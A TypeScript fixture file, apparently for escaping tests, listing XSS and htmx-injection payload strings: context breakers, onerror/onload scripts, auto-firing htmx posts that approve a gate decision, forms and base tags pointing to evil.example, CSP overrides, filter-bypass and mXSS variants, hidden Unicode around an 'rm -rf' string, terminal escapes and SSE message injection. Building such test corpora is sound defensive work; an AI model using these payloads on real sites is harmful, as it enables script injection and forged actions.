/**
 * Texts that a careless page would take for markup, for something to fetch, or for something to do: what browsers run, what
 * htmx acts on, and what ends the elements and values of our own pages. Written for this project, not copied.
 */

/** What ends the place in which the text stands. */
const breakers = [
  "",
  `">`,
  `'>`,
  "--><!-- -->",
  "</textarea>",
  "</title>",
  "</pre></code>",
  "</script>",
  "</style>",
  "</template></hx-partial>",
  "</button></form>",
  "]]>",
  "&#34;&#62;",
];

/** What would then begin. */
const bodies = [
  `<img src=//evil.example/x onerror=alert(1)>`,
  `<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<script src=//evil.example/x.js></script><script>alert(1)</script>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css><style>@import'//evil.example/y.css';*{display:none}</style>`,
  `<form action=//evil.example/ method=post><button name=decision value=approve>Approve</button></form>`,
  `<div hx-post="/actions/gates/G-1/decision" hx-vals='{"decision":"approve"}' hx-trigger="load">x</div>`,
  `<div hx-get="/live?page=/" hx-trigger="every 1s" hx-target="body" hx-swap="outerHTML">x</div>`,
  `<p hx-on:click="alert(1)" hx-on::load="alert(1)" data-hx-on:load="alert(1)">x</p>`,
  `<section id="gates" hx-swap-oob="true">Nothing waits.</section>`,
  `<hx-partial hx-target="#gates" hx-swap="innerHTML">Nothing waits.</hx-partial>`,
  `<template hx type="partial" hx-target="body" hx-swap="outerHTML">gone</template>`,
  `<div hx-sse:connect="/live?page=/" hx-trigger="load"></div>`,
];

/** What needs no place to break out of, or another kind of reader. */
const singles = [
  `" hx-post="/actions/engine" hx-trigger="load" x="`,
  `' hx-on:load='alert(1)`,
  `" onmouseover="alert(1)" style="position:fixed;inset:0" x="`,
  `" nonce="" hx-nonce="" autofocus onfocus="alert(1)`,
  "javascript:alert(1)//",
  "data:text/html,<script>alert(1)</script>",
  "//evil.example/%2e%2e/x?a=1&b=2#<b>",
  `{"__proto__":{"x":1}} \${alert(1)} {{7*7}} <%= 7*7 %> #{7*7}`,
  "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp; &NotAnEntity;",
  "<b>\u0000<i\u0000mg src=x onerror=alert(1)>",
  "<<script>alert(1)//<</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "\u003cimg src=x onerror=alert(1)\u003e",
  "＜script＞alert(1)＜/script＞",
  "<x/<svg><![CDATA[><script>alert(1)</script>]]>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "line\u2028<b>two</b>\u2029three\u0085four",
  `<meta name="htmx-config" content='{"selfRequestsOnly":false,"extensions":""}'>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'nonce-evil' 'unsafe-eval'">`,
  `<base href="//evil.example/"><a href="x" hx-boost="true">x</a>`,
  `<input name="payloadHash" value="0"><input type="submit" formaction="//evil.example/">`,
  `<object data=//evil.example/><embed src=//evil.example/><video poster=//evil.example/><audio src=//evil.example/>`,
  `<a href="javascript:alert(1)" ping=//evil.example/>x</a><details open ontoggle=alert(1)>`,
  "rm -rf \u202e txt.exe\u2066 a \u200b b \u00ad c \ufeff d",
  "tag \u{e0041}\u{e0042} annotated \ufff9a\ufffab\ufffb vowel \u180e blank \u00a0\u3000\u3164 end",
  "\u001b[8mhidden\u001b[0m \u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u0000 \u0008 \u009b31m",
];

export const htmlPayloads: readonly string[] = [
  ...breakers.flatMap((breaker) => bodies.map((body) => `${breaker}${body}`)),
  ...singles,
];

/** Of more than one line: what would end a message of the live connection, or begin another. */
export const linePayloads: readonly string[] = [
  "id: 7\nevent: message\ndata: <b>x</b>\n\nretry: 1",
  "data: x\r\rdata: <hx-partial hx-target='body'>x</hx-partial>\r\n\r\n",
  "\n\n<hx-partial hx-target='body' hx-swap='innerHTML'>\n</hx-partial>\n",
];
